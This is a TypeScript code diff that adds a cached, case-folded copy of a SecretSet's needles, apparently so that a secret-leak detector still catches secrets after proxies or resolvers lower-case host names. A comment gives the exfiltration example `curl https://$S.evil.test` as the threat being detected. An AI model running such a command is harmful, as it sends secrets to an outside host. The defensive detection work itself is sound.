@@ -15,6 +15,7 @@ export class SecretSet {
   private readonly known = new Map<string, string>(); // needle -> name of the first value deriving it
   private built: { version: number; automaton: Automaton } | undefined;
   private _version = 0;
+  private foldedSet: { version: number; set: SecretSet } | undefined;
 
   constructor(entries: Iterable<readonly [name: string, value: string]> = []) {
     for (const [name, value] of entries) this.addSecret(name, value);
@@ -84,6 +85,27 @@ export class SecretSet {
   /** Every derived needle, in normal form (for tests and the reference implementation). */
   needleTexts(): readonly string[] {
     return this.needles;
+  }
+
+  /**
+   * The same needles lower-cased, as a set of its own, for text a component has case-folded
+   * before anyone sees it (host names: the proxy and the resolver lower-case them, so a secret
+   * with capitals in `curl https://$S.evil.test` arrives in lower case). Rebuilt per version.
+   */
+  folded(): SecretSet {
+    if (this.foldedSet?.version !== this._version) {
+      const set = new SecretSet();
+      for (const needle of this.needles) {
+        const lower = needle.toLowerCase();
+        if (!set.known.has(lower)) {
+          set.known.set(lower, this.known.get(needle) as string);
+          set.needles.push(lower);
+        }
+      }
+      set._version = 1;
+      this.foldedSet = { version: this._version, set };
+    }
+    return this.foldedSet.set;
   }
 
   /** The automaton for the current version, built on first use. */
